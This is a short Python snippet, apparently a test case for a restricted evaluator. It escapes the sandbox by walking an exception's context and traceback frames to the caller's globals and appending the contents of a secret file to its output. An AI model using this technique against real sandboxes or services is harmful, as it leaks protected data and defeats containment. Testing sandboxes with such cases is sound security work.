# tries: walks the context of one error to the frames of another
try:
    try:
        T(5)
    finally:
        1 / 0
except Exception as e:
    answer = "OUT " + str(e.__context__.__traceback__.tb_frame.f_back.f_globals) + open(SECRET_FILE).read()
